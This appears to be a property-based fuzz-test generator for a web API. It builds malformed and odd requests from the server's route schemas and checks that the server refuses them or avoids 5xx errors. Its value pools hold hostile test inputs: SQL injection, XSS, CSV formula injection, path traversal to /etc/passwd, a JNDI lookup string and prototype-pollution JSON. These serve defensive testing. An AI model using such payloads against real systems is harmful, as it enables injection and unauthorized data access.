/**
 * Malformed and odd requests for every API route, generated with fast-check from the server's
 * own route table (each route's zod schemas for params, query and body) and the access
 * matrix's valid request for the route. Each candidate is classified:
 *
 * - malformed: a part fails the route's own schema (checked with the schema itself, as the
 *   server will), or the request is broken below the schema (JSON syntax, content type, size,
 *   credentials, CSRF header, Idempotency-Key, method, path). It must be refused (4xx) and
 *   change nothing.
 * - odd: it passes the schemas but carries hostile values (NUL, lone surrogates, huge
 *   numbers, far dates, injection strings, long text, odd CSV). It must not be a 5xx, and if
 *   refused it must change nothing.
 */
import fc from "fast-check";
import type { InjectOptions } from "fastify";
import type { z } from "zod";
import type { RouteEntry } from "../../src/server/route-table.js";
import type { CellRequest } from "./matrix-requests.js";

export type FuzzViewer = "anonymous" | "rep" | "manager" | "admin";
export type Auth = "token" | "cookie-no-csrf" | "bad-cookie" | "bad-bearer" | "foreign-scheme" | "none";

export interface FuzzRoute {
  key: string;
  method: string;
  url: string;
  params?: z.ZodType;
  query?: z.ZodType;
  body?: z.ZodType;
  /** The body is text (CSV, NDJSON), not JSON. */
  textBody: boolean;
  /** Server-sent events: never send it a request that could open the stream. */
  stream: boolean;
  public: boolean;
}

export interface FuzzCandidate {
  route: string;
  kind: string;
  viewer: FuzzViewer;
  auth: Auth;
  malformed: boolean;
  inject: InjectOptions & { method: string; url: string };
}

const zod = (s: unknown): z.ZodType | undefined => (s && typeof (s as z.ZodType).safeParse === "function" ? (s as z.ZodType) : undefined);

export function fuzzRoutes(table: readonly RouteEntry[]): FuzzRoute[] {
  return table
    .filter((r) => r.url.startsWith("/api/") && r.method !== "HEAD")
    .map((r) => {
      const schema = (r.schema ?? {}) as { params?: unknown; querystring?: unknown; body?: unknown; consumes?: string[] };
      const body = zod(schema.body);
      return {
        key: `${r.method} ${r.url}`,
        method: r.method,
        url: r.url,
        params: zod(schema.params),
        query: zod(schema.querystring),
        body,
        textBody: (schema.consumes ?? []).some((c) => c.startsWith("text/") || c.includes("ndjson")),
        stream: r.url.endsWith("/stream"),
        public: r.public,
      };
    });
}

const ok = (schema: z.ZodType | undefined, value: unknown) => !schema || schema.safeParse(value).success;

/** The valid request's path parameters and query, read back against the route's pattern. */
export function splitRequest(route: FuzzRoute, request: CellRequest): { params: Record<string, string>; query: Record<string, string> } {
  const [path, search = ""] = request.url.split("?");
  const pattern = route.url.split("/");
  const actual = path!.split("/");
  const params: Record<string, string> = {};
  pattern.forEach((segment, i) => {
    if (segment.startsWith(":")) params[segment.slice(1)] = decodeURIComponent(actual[i]!);
  });
  const query: Record<string, string> = {};
  for (const [k, v] of new URLSearchParams(search)) query[k] = v;
  return { params, query };
}

export function buildUrl(route: FuzzRoute, params: Record<string, string>, query: Record<string, string>): string {
  const path = route.url
    .split("/")
    .map((segment) => (segment.startsWith(":") ? encodeURIComponent(params[segment.slice(1)] ?? "") : segment))
    .join("/");
  const search = new URLSearchParams(query).toString();
  return search ? `${path}?${search}` : path;
}

// ---- value pools ----------------------------------------------------------------------------

/** Values of the wrong type or out of any sane range, for a JSON field. */
const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, -0.0001, 2 ** 31, 2 ** 53, 1e308, -1e308, "", " ", "NaN", "Infinity", "null", "0x10", "1e400", [], [null], {}, { $gt: "" }, "2026-13-45", "2026-02-30T25:61:00Z", "yes"),
  fc.string({ maxLength: 40 }),
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.jsonValue({ maxDepth: 2 }),
);

/** Text that passes "is a string" checks but is hostile downstream. */
export const ODD_STRINGS = [
  "\u0000",
  "a\u0000b",
  "\ud800",
  "x\udfffy",
  "\u202e\u2066RTL",
  "\u2028\u2029",
  "\uFEFFbom",
  "👩‍👩‍👧‍👦".repeat(20),
  "'; drop table users; --",
  "\" or 1=1 --",
  "<script>alert(1)</script>",
  "=HYPERLINK(\"http://evil\")",
  "../../etc/passwd",
  "%00%ff",
  "${jndi:ldap://x}",
  "{{7*7}}",
  "\\",
  " ",
  "rep",
  "account:",
  "account:\u0000",
  "ACCOUNT:Acme",
  "x".repeat(5_000),
  "é".repeat(3_000),
];

const oddString: fc.Arbitrary<string> = fc.oneof(fc.constantFrom(...ODD_STRINGS), fc.string({ unit: "binary", maxLength: 60 }), fc.string({ unit: "grapheme", maxLength: 30 }));

const oddNumber: fc.Arbitrary<number> = fc.constantFrom(0, -0, 1, 2 ** 31 - 1, 2 ** 31, 2 ** 32, 2 ** 53 - 1, Number.MAX_SAFE_INTEGER, 1e-300, 0.1 + 0.2, 1e15, 59.999999, 90, -90, 180, -180);

const oddDate: fc.Arbitrary<string> = fc.constantFrom(
  "0001-01-01T00:00:00Z",
  "1000-01-01T00:00:00Z",
  "1969-12-31T23:59:59.999Z",
  "9999-12-31T23:59:59Z",
  "2026-03-18T12:00:00+14:00",
  "2026-03-18T12:00:00-12:00",
  "2024-02-29T00:00:00Z",
  "2026-03-29T02:30:00Z",
);
const oddDay: fc.Arbitrary<string> = fc.constantFrom("0001-01-01", "1000-01-01", "9999-12-31", "2024-02-29", "1970-01-01", "2099-12-31");

/** Path parameter values: never a valid id (malformed), checked against the schema below. */
const junkParam: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom("abc", "-1", "0", "1.5", "1e400", "NaN", "Infinity", "-Infinity", "null", "undefined", "[]", "{}", "1,2", "%", "\u0000", "' or 1=1", "../..", "x".repeat(90), "١٢", "٣", "true"),
  fc.string({ maxLength: 20 }),
  fc.string({ unit: "binary", maxLength: 12 }),
);

/** Valid-looking but odd parameter values (huge ids that do not exist, padding). */
const oddParam: fc.Arbitrary<string> = fc.constantFrom("2147483647", "2147483648", "4294967296", "9007199254740991", "99999", "1e9", "000099999");

const junkQueryValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom("", "-1", "0", "abc", "9999-99", "2026-13", "2026-Q5", "2026-00", "1e400", "99999999999999999999", "2026-02-30", "\u0000", "[object Object]", "true", "x".repeat(400)),
  fc.string({ maxLength: 30 }),
);
const oddQueryValue: fc.Arbitrary<string> = fc.constantFrom(
  "2026-03",
  "2026-Q1",
  "1000-01",
  "9999-12",
  "9999-Q4",
  "1000-Q1",
  "0001-01-01",
  "9999-12-31",
  "1",
  "36",
  "60",
  "200",
  "500",
  "true",
  "false",
  "a".repeat(300),
  "%",
  "\ud800",
  "2147483648",
  "9007199254740991",
  "0001-01-01T00:00:00Z",
  "9999-12-31T23:59:59Z",
);

/** Fastify parses text/plain itself; text/csv and NDJSON only where a route takes them; the rest are 415. */
const TEXT_TYPES = new Set(["text/plain", "text/csv", "application/x-ndjson"]);
const CONTENT_TYPES = ["text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "image/png", "application/x-ndjson", "text/csv"];
const BROKEN_JSON = ['{"a":', "{'a':1}", "[1,2", "{\"a\":1}}", "undefined", "{\"__proto__\":{\"x\":1}}", "{\"constructor\":{\"prototype\":{\"x\":1}}}", "\u0000", "{\"a\":\"\\ud800\"", "NaN", "01", "{\"a\":1,}", "\"unterminated", "{".repeat(5000)];
const ODD_CSV_LINES = [
  "",
  "\uFEFFname,series,price",
  "a,b,c,d,e,f,g,h",
  '"unterminated,quote',
  "x,\u0000,y",
  "=cmd|' /C calc'!A0,1,2",
  "é,ü,😀",
  ",,,,",
  '"a""b",c',
  "line\r\nbreak",
  "\t,\t",
  "99999999999999999999,1e400,-0",
];

/** A CSV cell that parses as something but is extreme (dates off the calendar, huge numbers). */
const oddCell: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom("9999-12-31T23:59:59-12:00", "0000-01-01", "1899-12-31", "3000-01-01", "2026-02-29", "99999999999999999999", "1e400", "-0", "2147483648", "NaN", "1,000,000,000,000.999", "9999-Q4", "1000-01", "TRUE", " "),
  oddDate,
  oddDay,
  fc.constantFrom(...ODD_STRINGS.filter((t) => !/[\n\r]/.test(t))),
);

/** A valid file per import entity (names from the security org), for the import route's cell mutations. */
const IMPORT_TEMPLATES: Record<string, string> = {
  products: "name,series,price\nfz-p,X,10",
  activities: "externalId,rep,kind,at,proactive,durationMinutes\nfz-a,a1,call,2026-03-01T10:00:00Z,true,30",
  quotas: "rep,period,amount\na1,2026-Q2,1000",
  opportunities: "externalId,owner,stage,value,createdOn,closedAt\nfz-o,a1,Prospecting,100,2026-03-01,",
  updates: "externalId,rep,subject,at,text,performatives,promiseDue,promiseKept\nfz-u,a1,rep,2026-03-01,week,promise,2026-03-05,true",
  requests: "externalId,manager,rep,subject,at,text\nfz-r,mA,a1,rep,2026-03-01,your week?",
};

/** Values at and past the edges of what a CSV cell may hold, swept over every column of every file. */
const EDGE_CELLS = [
  "9999-12-31T23:59:59-12:00",
  "0000-01-01",
  "1899-12-31T23:59:59Z",
  "1900-01-01T00:00:00+14:00",
  "2999-12-31T23:59:59-14:00",
  "3000-01-01",
  "9999-Q4",
  "1899-12",
  "99999999999999999999",
  "1e400",
  "-1",
  "2147483648",
  "9007199254740993",
  "NaN",
  "",
  "\u0000",
  '"'.repeat(3),
  "x".repeat(10_000),
];

/**
 * Deterministic odd requests: each CSV route's valid file with one cell replaced by each edge
 * value, as an admin (so the file reaches the importer).
 */
export function csvEdgeCandidates(route: FuzzRoute, input: GeneratorInput): FuzzCandidate[] {
  if (!route.textBody) return [];
  const base = input.bases.get(route.key)!.get("admin")!;
  const importing = route.url.includes(":entity");
  const files = importing ? Object.entries(IMPORT_TEMPLATES) : [["", String(base.payload ?? "").trim()] as const];
  const out: FuzzCandidate[] = [];
  for (const [entity, file] of files) {
    const [header, row] = file.split("\n") as [string, string];
    const cells = row.split(",");
    cells.forEach((_, column) => {
      for (const value of EDGE_CELLS) {
        const changed = [...cells];
        changed[column] = /[",]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
        const url = importing ? route.url.replace(":entity", entity) : route.url;
        out.push({
          route: route.key,
          kind: "csv-edge",
          viewer: "admin",
          auth: "token",
          malformed: false,
          inject: { method: route.method, url, headers: { "content-type": "text/csv" }, body: `${header}\n${changed.join(",")}\n` } as FuzzCandidate["inject"],
        });
      }
    });
  }
  return out;
}

export interface GeneratorInput {
  routes: FuzzRoute[];
  /** A valid request per route and viewer (built once, before the data fingerprint). */
  bases: Map<string, Map<FuzzViewer, CellRequest>>;
  oversize: string;
}

/** One fuzz case for a route: a mutation of its valid request, classified. */
export function candidateArbitrary(route: FuzzRoute, input: GeneratorInput): fc.Arbitrary<FuzzCandidate> {
  const viewer = fc.constantFrom<FuzzViewer>("rep", "manager", "admin", "rep", "manager", "admin", "anonymous");
  const mutations: { arbitrary: fc.Arbitrary<Mutation>; weight: number }[] = [];
  /** Input mutations weigh more than transport ones: that is where validation lives. */
  const add = (arbitrary: fc.Arbitrary<Mutation>, weight = 1) => mutations.push({ arbitrary, weight });
  const hasBody = route.method === "POST" || route.method === "PUT";
  if (route.params) add(fc.record({ kind: fc.constant("param" as const), name: fc.constantFrom(...paramNames(route)), value: fc.oneof(junkParam, oddParam) }), 4);
  if (route.query) add(fc.record({ kind: fc.constant("query" as const), name: fc.constantFrom(...queryNames(route)), value: fc.oneof(junkQueryValue, oddQueryValue) }), 4);
  if (hasBody && route.body && !route.textBody) {
    add(fc.record({ kind: fc.constant("field" as const), path: fc.array(fc.nat(), { minLength: 1, maxLength: 3 }), value: fc.oneof(wrongValue, oddString, oddNumber, oddDate, oddDay), drop: fc.boolean() }), 4);
    add(fc.record({ kind: fc.constant("body" as const), value: fc.jsonValue({ maxDepth: 3 }) }), 4);
  }
  if (hasBody && route.textBody) {
    add(fc.record({ kind: fc.constant("csv" as const), lines: fc.array(fc.oneof(fc.constantFrom(...ODD_CSV_LINES), fc.array(oddString, { maxLength: 6 }).map((c) => c.join(","))), { maxLength: 8 }) }), 2);
    add(fc.record({ kind: fc.constant("csv-cell" as const), column: fc.nat(), value: oddCell, entity: fc.constantFrom(...Object.keys(IMPORT_TEMPLATES)) }), 6);
  }
  if (hasBody) {
    add(fc.record({ kind: fc.constant("json-syntax" as const), text: fc.oneof(fc.constantFrom(...BROKEN_JSON), fc.string({ maxLength: 30 }).map((s) => `{"a":${s}`)) }));
    add(fc.record({ kind: fc.constant("content-type" as const), type: fc.constantFrom(...CONTENT_TYPES) }));
    add(fc.record({ kind: fc.constant("oversize" as const), weight: fc.nat(19) }));
  }
  if (route.method === "POST" && route.key !== "POST /api/v1/auth/login") add(fc.record({ kind: fc.constant("idempotency-key" as const), key: fc.constantFrom("", "has space", "ünïcode", "k".repeat(256), "{}[]() ") }));
  add(fc.record({ kind: fc.constant("auth" as const), auth: fc.constantFrom<Auth>("cookie-no-csrf", "bad-bearer", "foreign-scheme") }));
  add(fc.record({ kind: fc.constant("method" as const), method: fc.constantFrom("PATCH", "PUT", "DELETE", "POST", "OPTIONS") }));
  // (No dot segments: clients resolve them before sending, as inject does.)
  add(fc.record({ kind: fc.constant("path" as const), suffix: fc.constantFrom("/x", "/%", "/%E0%A4%A", "/%00", "/" + "a".repeat(3000), "/%2F%2F", "/%2e%2e%2fx") }));
  return fc.tuple(viewer, fc.oneof(...mutations)).map(([v, m]) => apply(route, input, v, m));
}

type Mutation =
  | { kind: "param"; name: string; value: string }
  | { kind: "query"; name: string; value: string }
  | { kind: "field"; path: number[]; value: unknown; drop: boolean }
  | { kind: "body"; value: unknown }
  | { kind: "csv"; lines: string[] }
  | { kind: "csv-cell"; column: number; value: string; entity: string }
  | { kind: "json-syntax"; text: string }
  | { kind: "content-type"; type: string }
  | { kind: "oversize"; weight: number }
  | { kind: "idempotency-key"; key: string }
  | { kind: "auth"; auth: Auth }
  | { kind: "method"; method: string }
  | { kind: "path"; suffix: string };

function paramNames(route: FuzzRoute): string[] {
  return route.url
    .split("/")
    .filter((s) => s.startsWith(":"))
    .map((s) => s.slice(1));
}

function queryNames(route: FuzzRoute): string[] {
  const shape = (route.query as unknown as { shape?: Record<string, unknown> }).shape;
  return shape ? Object.keys(shape) : ["q"];
}

/** Sets (or drops) the value at a path of indices into the object's keys, creating nothing new. */
function mutateAt(body: unknown, path: number[], value: unknown, drop: boolean, schemaKeys: string[]): unknown {
  const copy = structuredClone(body ?? {}) as unknown;
  let node = copy as Record<string, unknown> | unknown[];
  for (let i = 0; i < path.length; i++) {
    const keys = Array.isArray(node) ? node.map((_, j) => String(j)) : Object.keys(node);
    const pool = i === 0 && !Array.isArray(node) ? [...new Set([...keys, ...schemaKeys])] : keys;
    if (pool.length === 0) return copy;
    const key = pool[path[i]! % pool.length]!;
    const child = (node as Record<string, unknown>)[key];
    const last = i === path.length - 1 || child === null || typeof child !== "object";
    if (last) {
      if (drop && !Array.isArray(node)) delete (node as Record<string, unknown>)[key];
      else (node as Record<string, unknown>)[key] = value;
      return copy;
    }
    node = child as Record<string, unknown>;
  }
  return copy;
}

function objectKeys(schema: z.ZodType | undefined): string[] {
  let s = schema as unknown as { shape?: Record<string, unknown>; def?: { in?: unknown; innerType?: unknown; schema?: unknown; element?: unknown } } | undefined;
  for (let i = 0; i < 5 && s && !s.shape; i++) s = (s.def?.in ?? s.def?.innerType ?? s.def?.schema ?? s.def?.element) as typeof s;
  return s?.shape ? Object.keys(s.shape) : [];
}

function apply(route: FuzzRoute, input: GeneratorInput, viewer: FuzzViewer, m: Mutation): FuzzCandidate {
  const routes = input.routes;
  const base = input.bases.get(route.key)!.get(viewer === "anonymous" ? "rep" : viewer)!;
  const split = splitRequest(route, base);
  const params = { ...split.params };
  const query = { ...split.query };
  let method = route.method;
  let payload: unknown = base.payload;
  let headers: Record<string, string> = { ...((base.headers as Record<string, string> | undefined) ?? {}) };
  let auth: Auth = viewer === "anonymous" ? "none" : "token";
  let malformed = false;
  let suffix = "";
  let rawBody: string | undefined;

  switch (m.kind) {
    case "param":
      params[m.name] = m.value;
      // An empty last segment is the parent path (e.g. /teams/ is GET /teams): a different route, not a bad id.
      malformed = m.value !== "" && !ok(route.params, params);
      // A valid but different id could point at the test's own tokens: only huge ones are sent.
      if (!malformed && m.value !== split.params[m.name] && !/^0*\d{5,}$|^1e9$/.test(m.value)) params[m.name] = split.params[m.name]!;
      break;
    case "query":
      query[m.name] = m.value;
      malformed = !ok(route.query, query);
      break;
    case "field":
      payload = mutateAt(payload, m.path, m.value, m.drop, objectKeys(route.body));
      malformed = !ok(route.body, payload);
      break;
    case "body":
      payload = m.value;
      malformed = !ok(route.body, payload);
      break;
    case "csv":
      rawBody = [String(payload ?? "").split("\n")[0], ...m.lines].join("\n");
      break;
    case "csv-cell": {
      // The valid data row with one cell replaced (quoted when it holds a comma or a quote).
      // On the import route, any entity's file; on the bulk route, its own.
      const importing = "entity" in params;
      if (importing) params.entity = m.entity;
      const [header, row = ""] = (importing ? IMPORT_TEMPLATES[m.entity]! : String(payload ?? "")).split("\n");
      const cells = row.split(",");
      const quoted = /[",]/.test(m.value) ? `"${m.value.replaceAll('"', '""')}"` : m.value;
      cells[m.column % cells.length] = quoted;
      rawBody = `${header}\n${cells.join(",")}\n`;
      break;
    }
    case "json-syntax":
      rawBody = m.text;
      headers["content-type"] = "application/json";
      malformed = true;
      break;
    case "content-type":
      // A JSON route given another type (415), or a text route given JSON (400).
      if (route.textBody && TEXT_TYPES.has(m.type)) {
        headers["content-type"] = "application/json";
        rawBody = JSON.stringify({ csv: String(payload ?? "") });
        malformed = !ok(route.body, JSON.parse(rawBody));
      } else {
        headers["content-type"] = m.type;
        rawBody = typeof payload === "string" ? payload : JSON.stringify(payload ?? {});
        // A text type arrives as a string (checked against the schema); any other is a 415.
        malformed = TEXT_TYPES.has(m.type) ? !ok(route.body, rawBody) : true;
      }
      break;
    case "oversize":
      if (m.weight === 0) {
        // Over the 1 MB JSON limit (a 413), or on the CSV routes (50 MB) a JSON object where text is due (a 400).
        rawBody = JSON.stringify({ name: input.oversize });
        headers["content-type"] = "application/json";
        malformed = true;
      } else if (route.textBody) {
        rawBody = `\uFEFF${String(payload ?? "").replace(/\n/g, "\r\n")}`;
      } else {
        // Mostly: the valid body wrapped in an array (the wrong shape), which is cheap.
        payload = [payload];
        malformed = !ok(route.body, payload);
      }
      break;
    case "idempotency-key":
      headers["idempotency-key"] = m.key;
      malformed = true;
      break;
    case "auth":
      auth = viewer === "anonymous" && m.auth === "cookie-no-csrf" ? "bad-cookie" : m.auth;
      if (auth === "cookie-no-csrf") malformed = route.method !== "GET";
      else if (auth === "bad-cookie") malformed = !route.public;
      else malformed = true;
      break;
    case "method": {
      method = m.method === route.method ? "PATCH" : m.method;
      // Another route may live at the same path under that method: then it is simply a request to it.
      const other = routes.find((r) => r.method === method && r.url === route.url);
      malformed = !other || !ok(other.body, method === "GET" || method === "DELETE" ? undefined : payload);
      break;
    }
    case "path":
      suffix = m.suffix;
      malformed = true;
      break;
  }
  if (method === "GET" || method === "DELETE") {
    payload = undefined;
    rawBody = undefined;
  }
  const built = buildUrl(route, params, query);
  const url = suffix ? built.replace(/(\?|$)/, `${suffix}$1`) : built;
  const inject = {
    method,
    url,
    headers,
    ...(rawBody !== undefined ? { body: rawBody } : payload !== undefined ? { payload: payload as object } : {}),
  } as FuzzCandidate["inject"];
  return { route: route.key, kind: m.kind, viewer, auth, malformed, inject };
}
